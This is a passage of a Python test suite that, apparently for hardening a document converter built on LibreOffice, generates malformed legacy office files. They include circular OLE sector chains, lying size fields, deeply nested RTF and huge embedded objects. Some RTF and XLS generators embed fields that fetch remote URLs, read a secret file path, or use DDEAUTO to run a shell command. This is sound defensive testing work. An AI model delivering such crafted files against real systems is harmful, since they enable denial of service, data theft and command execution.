        '<Row ss:Index="9999999"><Cell ss:Index="9999999" ss:MergeAcross="9999999" ss:MergeDown="9999999"><Data>x</Data></Cell></Row>'
    )


@attack("a.xls")
def sheet_xml_of_cells_that_push_each_other_along() -> bytes:
    return sheet_xml(f"<Row>{TALL_CELL * 200}</Row>" + "<Row><Cell><Data>y</Data></Cell></Row>" * 100_000)


# --- Documents of old offices, and what LibreOffice is asked to read


def ole(name: str, content: bytes) -> bytes:
    """An OLE file of one stream."""
    from xlwt.CompoundDoc import XlsDoc

    out = io.BytesIO()
    XlsDoc().save(out, content.ljust(4_096, b"\0"))
    body = bytearray(out.getvalue())
    at = body.rindex("Workbook".encode("utf-16le"))
    body[at : at + 64] = (name.encode("utf-16le") + b"\0\0").ljust(64, b"\0")
    body[at + 64 : at + 66] = (2 * len(name) + 2).to_bytes(2, "little")
    return bytes(body)


def patched(body: bytes, *changes: tuple[int, bytes]) -> bytes:
    """Bytes with others in some places."""
    out = bytearray(body)
    for at, content in changes:
        out[at : at + len(content)] = content
    return bytes(out)


WORD_97 = b"\xec\xa5\xc1\x00" + bytes(28)


def _directory(body: bytes) -> int:
    return (int.from_bytes(body[48:52], "little") + 1) * 512


@attack("a.doc", quick=True)
def doc_whose_sectors_run_in_a_circle() -> bytes:
    body = ole("WordDocument", WORD_97 + b"x" * 50_000)
    table = (int.from_bytes(body[76:80], "little") + 1) * 512
    return patched(body, (table, b"".join(struct.pack("<L", (n + 1) % 90) for n in range(128))))


@attack("a.doc", quick=True)
def doc_whose_directory_runs_in_a_circle() -> bytes:
    body = ole("WordDocument", WORD_97)
    at = _directory(body)
    return patched(body, (at + 68, struct.pack("<3L", 1, 1, 1)), (at + 128 + 68, struct.pack("<3L", 1, 0, 1)))


@attack("a.doc", quick=True)
def doc_whose_stream_claims_4_gb() -> bytes:
    body = ole("WordDocument", WORD_97)
    return patched(body, (_directory(body) + 128 + 120, struct.pack("<Q", 0xFFFFFFF0)))


@attack("a.doc", quick=True)
def doc_of_sectors_of_2_gb() -> bytes:
    return patched(
        ole("WordDocument", WORD_97),
        (30, struct.pack("<HH", 31, 30)),
        (44, b"\xff\xff\xff\x7f"),
        (72, b"\xff\xff\xff\x7f"),
    )


@attack("a.doc", quick=True)
def doc_whose_small_sectors_run_in_a_circle() -> bytes:
    body = ole("WordDocument", WORD_97)
    return patched(
        body,
        (_directory(body) + 128 + 120, struct.pack("<L", 4_000)),
        (60, struct.pack("<LL", 0, 0xFFFF)),
        (68, struct.pack("<LL", 0, 0xFFFF)),
    )


@attack("a.doc", quick=True)
def doc_locked_with_a_password() -> bytes:
    return ole("WordDocument", b"\xec\xa5\xc1\x00" + bytes(6) + b"\x00\x01" + bytes(99))


@attack("a.doc")
def doc_of_counts_that_lie() -> bytes:
    return ole("WordDocument", b"\xec\xa5\xc1\x00" + bytes(6) + b"\x00\x02" + b"\xff" * 890 + b"x\r" * 50_000)


@attack("a.xls")
def xls_of_two_cells_far_apart() -> bytes:
    import xlwt

    book, out = xlwt.Workbook(), io.BytesIO()
    sheet = book.add_sheet("a")
    sheet.write(0, 0, MARK)
    sheet.write(65_535, 255, 1)
    book.save(out)
    return out.getvalue()


@attack("a.xls")
def xls_of_100_sheets_of_two_cells_far_apart() -> bytes:
    import xlwt

    book, out = xlwt.Workbook(), io.BytesIO()
    for number in range(100):
        sheet = book.add_sheet(f"a{number}")
        sheet.write(0, 0, MARK)
        sheet.write(7_000, 255, 1)
    book.save(out)
    return out.getvalue()


@attack("a.xls", quick=True)
def xls_that_claims_four_billion_strings() -> bytes:
    bof, sst = (
        struct.pack("<HHHHHHLL", 0x809, 16, 0x600, 5, 0, 0, 0, 6),
        struct.pack("<HHLL", 0xFC, 8, 0xFFFFFFFF, 0xFFFFFFFF),
    )
    return ole("Workbook", bof + sst + b"\x0a\0\0\0")


@attack("a.xls")
def xls_that_fetches_from_other_places(lure: Lure) -> bytes:
    name = f"\x05{lure.url}a.xls".encode()
    bof = struct.pack("<HHHHHH", 0x809, 8, 0x500, 5, 0, 0)
    link = struct.pack("<HHBB", 0x17, 2 + len(name), len(name), 1) + name
    return bof + link + struct.pack("<HH", 0x0A, 0)


def rtf(inside: str) -> bytes:
    """An RTF that says something at its end."""
    return rb"{\rtf1\ansi " + inside.encode() + rb" Annual budget of the department\par}"


@attack("a.rtf")
def rtf_a_million_braces_deep() -> bytes:
    return rtf("{" * 1_000_000)


@attack("a.rtf", quick=True)
def rtf_of_a_picture_of_2_gb() -> bytes:
    return rtf("{\\pict\\wmetafile8\\bin2147483647 x}" * 100)


@attack("a.rtf")
def rtf_of_objects_of_20_mb() -> bytes:
    return rtf("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata " + "d0cf11e0a1b11ae1" * 2_500_000 + "}}")


@attack("a.rtf")
def rtf_of_30000_rows_in_tables() -> bytes:
    return rtf("\\trowd\\cellx1000\\cellx2000 a\\cell b\\cell\\row " * 30_000)


@attack("a.rtf")
def rtf_of_tables_in_one_another() -> bytes:
    return rtf("".join(f"{{\\itap{n}\\intbl x\\nestcell" for n in range(2, 1_000)))


@attack("a.rtf")
def rtf_of_everything_that_fetches(lure: Lure) -> bytes:
    url = lure.url
    fields = "".join(f"{{\\field{{\\*\\fldinst {code}}}{{\\fldrslt x}}}}" for code in (
        f'INCLUDEPICTURE "{url}a.png" \\\\d', f'INCLUDETEXT "{url}a.txt"', f'INCLUDETEXT "file://{lure.secret}"', f'INCLUDETEXT "{lure.secret}"', f'DDEAUTO cmd "/c touch {lure.target}"',
        f'LINK Word.Document.8 "{url}a.doc" "" \\\\a', f'DATABASE \\\\d "{url}"', f'IMPORT "{url}a.png"'))  # fmt: skip
    return rtf(
        f"{{\\*\\template {url}a.dot}}{{\\object\\objautlink\\objupdate{{\\*\\objdata {url.encode().hex()}}}}}{fields}"
    )


@attack("a.rtf")
def rtf_of_a_million_characters_by_number() -> bytes:
    return rtf("\\u24213?" * 1_000_000)


@attack("a.ppt", quick=True)
def ppt_of_records_in_one_another() -> bytes:
    return ole("PowerPoint Document", b"".join(struct.pack("<HHL", 0x0F, 1_000, 0x7FFFFFFF) for _ in range(20_000)))


@attack("a.wps", quick=True)
def works_of_nothing_but_noise() -> bytes:
    return ole("CONTENTS", bytes(range(256)) * 400)
